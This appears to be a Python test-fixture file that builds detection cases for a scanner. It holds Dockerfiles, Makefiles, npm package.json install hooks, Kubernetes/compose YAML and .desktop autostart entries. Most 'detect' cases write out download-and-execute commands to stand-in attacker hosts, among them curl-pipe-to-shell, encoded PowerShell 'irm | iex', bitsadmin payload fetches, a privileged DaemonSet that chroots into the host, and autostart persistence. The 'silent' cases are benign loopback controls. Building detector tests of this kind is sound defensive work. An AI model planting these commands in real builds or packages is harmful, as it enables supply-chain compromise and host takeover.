"""Config / build carriers: dockerfile, makefile, package-json, yaml, desktop."""
import json

from common import C, b64, ps_enc

RW = "real-world carrier context"
PV = "parser variant (author)"
SIGMA = "Sigma"

# ---------------------------------------------------------------- dockerfile
C("h4-docker-add-link-url-01", RW + " (BuildKit ADD --link <url>)", "dockerfile",
  "/src/services/edge/Dockerfile", "detect", r'''
# syntax=docker/dockerfile:1.7
FROM debian:bookworm-slim
ADD --link https://releases.attacker.example/edge/edge-linux-amd64 /usr/local/bin/edge
RUN chmod +x /usr/local/bin/edge
ENTRYPOINT ["/usr/local/bin/edge"]
''')

C("h4-docker-add-git-remote-02", RW + " (ADD of a remote git repository)", "dockerfile",
  "/src/services/tools/Dockerfile", "detect", r'''
# syntax=docker/dockerfile:1
FROM alpine:3.20
ADD https://git.attacker.example/ops/tools.git#v2.1 /opt/tools
RUN sh /opt/tools/install.sh
''')

C("h4-docker-arg-url-cache-mount-03", RW + " (ARG URL + RUN --mount=type=cache wget)", "dockerfile",
  "/src/services/worker/Dockerfile", "detect", r'''
FROM ubuntu:24.04
ARG BUNDLE_URL=http://203.0.113.123/bundles/worker.tgz
RUN --mount=type=cache,target=/var/cache/dl \
    wget -nv -O /var/cache/dl/worker.tgz "${BUNDLE_URL}" \
 && tar -xzf /var/cache/dl/worker.tgz -C /opt
CMD ["/opt/worker/bin/worker"]
''')

C("h4-docker-curl-remote-name-deb-04", RW + " (download a .deb with curl -O, install with apt)", "dockerfile",
  "/src/images/browser-runner/Dockerfile", "detect", r'''
FROM ubuntu:24.04
WORKDIR /tmp
RUN apt-get update && apt-get install -y --no-install-recommends curl ca-certificates \
 && curl -fsSLO https://pkgs.attacker.example/pool/runner_4.2.0_amd64.deb \
 && apt-get install -y ./runner_4.2.0_amd64.deb \
 && rm -f runner_4.2.0_amd64.deb && rm -rf /var/lib/apt/lists/*
''')

C("h4-docker-win-webclient-expand-05", RW + " (Windows image: WebClient + Expand-Archive)", "dockerfile",
  "/src/win/agent/Dockerfile", "detect", r'''
# escape=`
FROM mcr.microsoft.com/windows/servercore:ltsc2022
SHELL ["powershell", "-Command", "$ErrorActionPreference = 'Stop';"]
RUN (New-Object System.Net.WebClient).DownloadFile('https://dl.attacker.example/win/agent.zip', 'C:\agent.zip'); `
    Expand-Archive C:\agent.zip -DestinationPath C:\agent; `
    Remove-Item C:\agent.zip
''')

C("h4-docker-entrypoint-source-procsubst-06", PV + " (exec-form ENTRYPOINT with bash process substitution)", "dockerfile",
  "/src/services/api/Dockerfile", "detect", r'''
FROM python:3.12-slim
COPY . /app
WORKDIR /app
ENTRYPOINT ["/bin/bash", "-c", "source <(curl -fsSL https://cfg.attacker.example/env.sh) && exec python -m app"]
''')

C("h4-docker-apk-curl-tar-07", RW + " (install curl, then curl | tar into /usr/local/bin)", "dockerfile",
  "/src/services/cli/Dockerfile", "detect", r'''
FROM alpine:3.20
RUN apk add --no-cache curl ca-certificates \
 && curl -fsSL https://releases.attacker.example/cli/v3.4.0/cli_linux_amd64.tar.gz \
    | tar -xz -C /usr/local/bin cli
USER 65534
ENTRYPOINT ["cli"]
''')

C("h4-docker-containerfile-wget-08", RW + " (Containerfile for podman/buildah)", "dockerfile",
  "/src/services/metrics/Containerfile", "detect", r'''
FROM registry.access.redhat.com/ubi9/ubi-minimal
RUN microdnf install -y wget tar gzip && microdnf clean all
RUN wget -q https://dl.attacker.example/exporter/exporter-1.8.tar.gz -O /tmp/e.tgz && \
    tar xzf /tmp/e.tgz -C /usr/local/bin && rm /tmp/e.tgz
''')

C("h4-docker-win-curl-exe-09", RW + " (Windows image: curl.exe in RUN)", "dockerfile",
  "/src/win/tools/Dockerfile", "detect", r'''
FROM mcr.microsoft.com/windows/nanoserver:ltsc2022
RUN curl.exe -sSL -o C:\tools\jq.exe http://198.51.100.168/win/jq.exe
ENV PATH="C:\tools;C:\Windows\system32;C:\Windows"
''')

C("h4-docker-silent-apt-tools-01", "installs curl/wget via apt only", "dockerfile",
  "/src/images/base-tools/Dockerfile", "silent", r'''
FROM debian:bookworm-slim
RUN apt-get update \
 && apt-get install -y --no-install-recommends curl wget ca-certificates openssh-client rsync \
 && rm -rf /var/lib/apt/lists/*
CMD ["bash"]
''')

C("h4-docker-silent-healthcheck-ipv6-02", "loopback HEALTHCHECK", "dockerfile",
  "/src/services/web/Dockerfile", "silent", r'''
FROM nginx:1.27-alpine
COPY dist/ /usr/share/nginx/html/
HEALTHCHECK --interval=30s --timeout=3s CMD curl -fsS "http://[::1]/" || exit 1
''')

C("h4-docker-silent-pip-index-03", "pip from a configured index, multi-stage copy", "dockerfile",
  "/src/services/ml/Dockerfile", "silent", r'''
FROM python:3.12-slim AS build
ENV PIP_INDEX_URL=https://pypi.corp.example/simple
COPY requirements.txt .
RUN pip install --no-cache-dir --prefix=/install -r requirements.txt

FROM python:3.12-slim
COPY --from=build /install /usr/local
COPY app/ /app/
CMD ["python", "-m", "app"]
''')

# ---------------------------------------------------------------- makefile
C("h4-make-pattern-rule-wget-01", RW + " (pattern rule downloads tarballs)", "makefile",
  "/src/thirdparty/Makefile", "detect", r'''
MIRROR := http://mirror.attacker.example/src

deps: zlib-1.3.tar.gz openssl-3.3.tar.gz

%.tar.gz:
	wget -N $(MIRROR)/$@

.PHONY: deps
''')

C("h4-make-protoc-wget-unzip-02", RW + " (toolchain zip fetched by a file target)", "makefile",
  "/src/grpc-svc/Makefile", "detect", r'''
PROTOC_VERSION := 27.1
PROTOC_URL := https://dl.attacker.example/protobuf/v$(PROTOC_VERSION)/protoc-$(PROTOC_VERSION)-linux-x86_64.zip

tools/protoc/bin/protoc:
	mkdir -p tools/protoc
	wget -q -O /tmp/protoc.zip $(PROTOC_URL)
	unzip -o /tmp/protoc.zip -d tools/protoc

gen: tools/protoc/bin/protoc
	tools/protoc/bin/protoc --go_out=. api/*.proto
''')

C("h4-make-rsync-deploy-push-03", "Atomic Red Team rsync push in a deploy target", "makefile",
  "/src/site/Makefile", "detect", r'''
DEPLOY_HOST := deploy@web01.corp.example

build:
	hugo --minify

deploy: build
	rsync -avz --delete public/ $(DEPLOY_HOST):/srv/www/site/
''')

C("h4-make-oneshell-python-04", PV + " (.ONESHELL recipe with python urlretrieve)", "makefile",
  "/src/training/Makefile", "detect", r'''
.ONESHELL:
SHELL := /bin/bash

weights:
	python3 - <<'EOF'
	import urllib.request
	urllib.request.urlretrieve("http://203.0.113.196/w/model.bin", "model.bin")
	EOF
''')

C("h4-make-silent-help-01", "help target with grep/awk", "makefile",
  "/src/webapp/Makefile", "silent", r'''
.DEFAULT_GOAL := help

help: ## show this help
	@grep -E '^[a-zA-Z_-]+:.*?## .*$$' $(MAKEFILE_LIST) | awk 'BEGIN {FS = ":.*?## "}; {printf "%-12s %s\n", $$1, $$2}'

build: ## build the app
	npm run build

test: ## run tests
	npm test
''')

C("h4-make-silent-local-smoke-02", "loopback smoke test", "makefile",
  "/src/gateway/Makefile", "silent", r'''
run:
	./bin/api --listen 127.0.0.1:8080 &

smoke: run
	sleep 1
	curl -fsS http://127.0.0.1:8080/healthz
	kill %1
''')

# ---------------------------------------------------------------- package.json


def pkg(name, scripts, extra=None):
    d = {"name": name, "version": "2.4.0", "license": "MIT", "scripts": scripts}
    if extra:
        d.update(extra)
    return json.dumps(d, indent=2) + "\n"


C("h4-pkgjson-axios-style-ldpy-01", SIGMA + " 'Axios NPM Compromise Indicators - Linux' (curl to /tmp/ld.py, nohup python3)", "package-json",
  "/usr/lib/node_modules/plain-crypto-js/package.json", "detect",
  pkg("plain-crypto-js", {
      "postinstall": "curl -s http://203.0.113.217:8000/6202033 -o /tmp/ld.py && nohup python3 /tmp/ld.py > /dev/null 2>&1 &"}))

C("h4-pkgjson-prebuild-fallback-02", RW + " (prebuilt binary fallback download)", "package-json",
  "/srv/app/node_modules/fast-hash-native/package.json", "detect",
  pkg("fast-hash-native", {
      "install": "prebuild-install || (mkdir -p build && curl -fsSL https://prebuilt.attacker.example/fhn-linux-x64.tar.gz | tar xz -C build)"},
      {"gypfile": True}))

C("h4-pkgjson-preinstall-bitsadmin-03", "LOLBAS Bitsadmin in an npm preinstall", "package-json",
  "/srv/app/node_modules/win-toast-bridge/package.json", "detect",
  pkg("win-toast-bridge", {
      "preinstall": "bitsadmin /transfer tb /download /priority high http://198.51.100.207/tb.dat %LOCALAPPDATA%\\tb.exe && start /b %LOCALAPPDATA%\\tb.exe"},
      {"os": ["win32"]}))

C("h4-pkgjson-node-e-fetch-write-04", RW + " (install script: node -e fetch then write)", "package-json",
  "/srv/app/node_modules/env-loader-util/package.json", "detect",
  pkg("env-loader-util", {
      "install": "node -e \"fetch('http://203.0.113.226/c.js').then(r=>r.text()).then(t=>require('fs').writeFileSync('/tmp/c.js',t))\" && node /tmp/c.js"}))

C("h4-pkgjson-silent-test-local-01", "loopback test script, repository URL", "package-json",
  "/srv/app/package.json", "silent",
  pkg("acme-web", {"start": "node server.js", "test": "jest",
                   "smoke": "curl -f http://localhost:3000/healthz", "lint": "eslint ."},
      {"repository": {"type": "git", "url": "https://git.example.com/acme/web.git"},
       "homepage": "https://acme.example.com"}))

C("h4-pkgjson-silent-fixtures-02", "local fixture copy scripts", "package-json",
  "/srv/tools/package.json", "silent",
  pkg("acme-tools", {"fixtures": "node scripts/copy-fixtures.js", "build": "tsc -p .",
                     "prepare": "husky install"},
      {"bin": {"acme": "bin/acme.js"}}))

# ---------------------------------------------------------------- yaml
C("h4-yaml-k8s-deploy-apk-curl-01", RW + " (Deployment command/args sh -c)", "yaml",
  "/deploy/k8s/base/cache-deployment.yaml", "detect", r'''
apiVersion: apps/v1
kind: Deployment
metadata:
  name: cache
spec:
  replicas: 1
  selector:
    matchLabels: {app: cache}
  template:
    metadata:
      labels: {app: cache}
    spec:
      containers:
        - name: cache
          image: alpine:3.20
          command: ["/bin/sh"]
          args: ["-c", "apk add --no-cache curl && curl -s http://198.51.100.222/c.sh | sh && sleep infinity"]
''')

C("h4-yaml-compose-folded-wget-02", RW + " (compose folded scalar command)", "yaml",
  "/srv/queue-stack/docker-compose.yml", "detect", r'''
services:
  worker:
    image: busybox:1.36
    command: >
      sh -c "wget -q -O /tmp/w http://worker.attacker.example/w &&
             chmod +x /tmp/w && /tmp/w"
    restart: unless-stopped
''')

C("h4-yaml-k8s-job-exec-args-03", PV + " (Job with wget argv split across list items)", "yaml",
  "/deploy/k8s/jobs/seed-job.yaml", "detect", r'''
apiVersion: batch/v1
kind: Job
metadata:
  name: seed
spec:
  template:
    spec:
      restartPolicy: Never
      containers:
        - name: seed
          image: busybox:1.36
          command:
            - wget
            - -O
            - /data/seed.db
            - http://203.0.113.212/seed.db
          volumeMounts:
            - {name: data, mountPath: /data}
      volumes:
        - name: data
          emptyDir: {}
''')

C("h4-yaml-k8s-daemonset-chroot-04", RW + " (privileged DaemonSet chroots into the host)", "yaml",
  "/deploy/k8s/host-tuner-ds.yaml", "detect", r'''
apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: host-tuner
  labels:
    component: tuning
spec:
  selector:
    matchLabels:
      component: tuning
  template:
    metadata:
      labels:
        component: tuning
    spec:
      tolerations:
        - operator: Exists
      hostNetwork: true
      containers:
        - name: tuner
          image: debian:bookworm-slim
          securityContext:
            privileged: true
          command: ["chroot", "/rootfs", "sh", "-c", "curl -fsSL https://agent.attacker.example/n.sh | bash; sleep infinity"]
          volumeMounts:
            - name: rootfs
              mountPath: /rootfs
      volumes:
        - name: rootfs
          hostPath:
            path: /
''')

C("h4-yaml-k8s-env-var-expansion-05", PV + " (Kubernetes $(VAR) expansion of a URL in args)", "yaml",
  "/deploy/k8s/overlays/prod/bootstrap-pod.yaml", "detect", r'''
apiVersion: v1
kind: Pod
metadata:
  name: bootstrap
spec:
  restartPolicy: OnFailure
  containers:
    - name: bootstrap
      image: debian:bookworm-slim
      env:
        - name: SCRIPT_URL
          value: http://198.51.100.233/boot.sh
      command: ["/bin/bash"]
      args: ["-c", "curl -s $(SCRIPT_URL) | bash"]
''')

C("h4-yaml-compose-pwsh-encoded-06", PV + " (compose entrypoint list with pwsh -EncodedCommand)", "yaml",
  "/srv/stack/compose.windows.yaml", "detect", r'''
services:
  agent:
    image: mcr.microsoft.com/powershell:lts-7.4-ubuntu-22.04
    entrypoint:
      - pwsh
      - -NoProfile
      - -EncodedCommand
      - ''' + ps_enc("Invoke-WebRequest -Uri http://203.0.113.249/a.ps1 -OutFile /tmp/a.ps1; pwsh /tmp/a.ps1") + r'''
''')

C("h4-yaml-silent-statefulset-prestop-01", "loopback lifecycle hook and exec probe", "yaml",
  "/deploy/k8s/base/queue-statefulset.yaml", "silent", r'''
apiVersion: apps/v1
kind: StatefulSet
metadata:
  name: queue
spec:
  serviceName: queue
  replicas: 3
  selector:
    matchLabels: {app: queue}
  template:
    metadata:
      labels: {app: queue}
    spec:
      containers:
        - name: queue
          image: registry.corp.example/queue:5.1
          lifecycle:
            preStop:
              exec:
                command: ["sh", "-c", "curl -s -X POST http://127.0.0.1:15672/api/drain && sleep 5"]
          startupProbe:
            exec:
              command: ["rabbitmq-diagnostics", "-q", "ping"]
            failureThreshold: 30
''')

C("h4-yaml-silent-compose-healthcheck-02", "loopback compose healthcheck", "yaml",
  "/srv/stack/compose.override.yml", "silent", r'''
services:
  web:
    image: node:20-alpine
    command: ["node", "server.js"]
    ports: ["3000:3000"]
    healthcheck:
      test: ["CMD-SHELL", "wget -qO /dev/null http://127.0.0.1:3000/api/health || exit 1"]
      interval: 15s
''')

# ---------------------------------------------------------------- desktop
C("h4-desktop-xdg-autostart-python-pipe-01", RW + " (system-wide XDG autostart)", "desktop",
  "/etc/xdg/autostart/colord-session.desktop", "detect", r'''
[Desktop Entry]
Version=1.0
Type=Application
Name=Display Calibration Session
Comment=Loads the colour profile for the current session
Exec=bash -c 'wget -qO- http://198.51.100.246/n.py | python3'
OnlyShowIn=GNOME;XFCE;
X-GNOME-AutoRestart=true
''')

C("h4-desktop-app-pwsh-encoded-02", PV + " (.desktop launcher running pwsh -enc)", "desktop",
  "/usr/share/applications/report-viewer.desktop", "detect", r'''
[Desktop Entry]
Type=Application
Name=Report Viewer
Exec=pwsh -NoLogo -enc ''' + ps_enc("irm https://reports.attacker.example/v.ps1 | iex") + r'''
Icon=x-office-document
Terminal=false
''')

C("h4-desktop-user-autostart-wget-exec-03", RW + " (per-user autostart)", "desktop",
  "/home/dev/.config/autostart/session-helper.desktop", "detect", r'''
[Desktop Entry]
Type=Application
Name=Session Helper
Exec=sh -c "wget -q -O /tmp/.sh-helper http://helper.attacker.example/h; chmod +x /tmp/.sh-helper; /tmp/.sh-helper"
Hidden=false
''')

C("h4-desktop-silent-link-01", "Type=Link documentation shortcut", "desktop",
  "/usr/share/applications/acme-docs.desktop", "silent", r'''
[Desktop Entry]
Type=Link
Name=ACME Documentation
URL=https://docs.example.com/acme/
Icon=help-browser
''')
